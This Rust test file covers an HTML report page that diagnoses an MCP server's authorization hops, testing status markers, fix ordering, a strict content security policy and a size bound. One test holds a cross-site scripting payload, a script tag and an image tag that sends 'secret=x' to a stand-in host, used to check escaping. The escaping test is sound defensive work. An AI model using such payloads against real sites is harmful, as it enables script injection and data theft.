//! Tests of [`doctor_page`].

use portcullis_doctor::{Hop, Rule};

use super::*;

const RULE: Rule = Rule::new("a.rule", "a source");
const RESOURCE: &str = "https://mcp.example.com/mcp";

fn page(steps: Vec<Step>) -> String {
    doctor_page(&Report::new(RESOURCE, steps))
}

fn step(hop: Hop, finding: Finding) -> Step {
    let mut step = Step::new("a step").at_hop(hop);
    step.findings.push(finding);
    step
}

/// The part of the page that is about this hop.
fn hop<'a>(page: &'a str, target: &str) -> &'a str {
    let end = page.find(&format!("<h2>{target}</h2>")).unwrap();
    let start = page[..end].rfind("<li class=").unwrap();
    // The items of the findings are between the hop and its box.
    let start = page[..end].rfind("<div class=\"arrow\"").unwrap_or(start);
    let start = page[..start].rfind("<li class=").unwrap();
    &page[start..end]
}

/// J9: a hop that works, one with a problem, and one that is not examined differ in words and
/// signs, and not only by their colors.
#[test]
fn each_state_has_a_class_a_sign_and_words() {
    let page = page(vec![
        step(Hop::Resource, Finding::met(RULE, "it answers")),
        step(Hop::Resource, Finding::warning(RULE, "hm", "do better")),
        step(
            Hop::Metadata,
            Finding::problem(RULE, "no document", "serve it"),
        ),
    ]);
    for (target, expected) in [
        (
            "resource",
            &[
                "class=\"works\"",
                "✓",
                "works",
                "it answers",
                "warning",
                "hm",
                "do better",
            ][..],
        ),
        (
            "metadata",
            &[
                "class=\"fails\"",
                "✕",
                "fails",
                "problem",
                "no document",
                "serve it",
                "a source (a.rule)",
            ],
        ),
        (
            "authorization server",
            &[
                "class=\"unknown\"",
                "–",
                "not examined: a hop before it fails",
            ],
        ),
        ("MCP server", &["not examined: a hop before it fails"]),
    ] {
        let hop = hop(&page, target);
        for word in expected {
            assert!(hop.contains(word), "{target}: {word}: {hop}");
        }
    }
    assert!(page.contains("1 rule met, 1 warning, 1 problem"), "{page}");
    let (_, first) = page.split_once("Fix first").unwrap();
    assert!(first.starts_with("</h2>\n<p>no document</p>"), "{first}");
}

#[test]
fn without_a_problem_nothing_is_to_fix_and_the_server_needs_a_sign_in() {
    let issuer = Hop::AuthorizationServer(Some("https://auth.example.com".into()));
    let hops = [Hop::Resource, Hop::Metadata, issuer];
    let steps = hops.map(|hop| step(hop, Finding::met(RULE, "met"))).into();
    let page = page(steps);
    assert!(!page.contains("Fix first"), "{page}");
    assert!(
        page.contains("not examined: a sign-in is necessary (--login)"),
        "{page}"
    );
    assert!(
        page.contains("<p class=\"url\">https://auth.example.com</p>"),
        "{page}"
    );
}

/// J8: a hostile server can neither run a script nor load anything, wherever its text is.
#[test]
fn texts_of_peers_are_escaped_everywhere() {
    const HOSTILE: &str = "<script>alert(1)</script>\"'<img src=https://evil.example/?secret=x>";
    let issuer = Hop::AuthorizationServer(Some(HOSTILE.into()));
    let mut hostile = step(issuer, Finding::problem(RULE, HOSTILE, HOSTILE));
    hostile.title = HOSTILE.into();
    for finding in [
        Finding::met(RULE, HOSTILE),
        Finding::note(RULE, HOSTILE),
        Finding::warning(RULE, HOSTILE, HOSTILE),
    ] {
        hostile.findings.push(finding);
    }
    let page = doctor_page(&Report::new(HOSTILE, vec![hostile]));
    assert!(!page.contains("<script"), "{page}");
    assert!(!page.contains("<img"), "{page}");
    assert!(!page.contains("secret=x"), "{page}");
    assert!(page.matches("&lt;script&gt;").count() > 9, "{page}");
}

/// J8: the policy forbids scripts and everything external, and the page needs neither.
#[test]
fn the_page_is_self_contained() {
    let page = page(vec![step(Hop::Resource, Finding::met(RULE, "met"))]);
    assert!(page.contains("content=\"default-src 'none'; style-src 'unsafe-inline'; "));
    for external in [
        "src=", "href=", "url(", "@import", "<script", "style=", " on",
    ] {
        let elements = page.split('<').filter_map(|rest| rest.split_once('>'));
        let is_used = elements
            .clone()
            .any(|(element, _)| element.contains(external));
        assert!(!is_used, "{external}");
    }
    assert!(!STYLE.contains("url(") && !STYLE.contains("@import") && !STYLE.contains('<'));
}

/// A server that causes many findings cannot make a page that no browser can show.
#[test]
fn the_page_is_bounded() {
    let mut many = Step::new("a step").at_hop(Hop::Metadata);
    for _ in 0..10_000 {
        many.findings
            .push(Finding::warning(RULE, "x".repeat(5000), "fix"));
        many.findings.push(Finding::met(RULE, "x".repeat(5000)));
    }
    let page = page(vec![many]);
    assert!(page.contains("and 9950 more"), "{}", page.len());
    assert!(page.len() < 200_000, "{}", page.len());
}
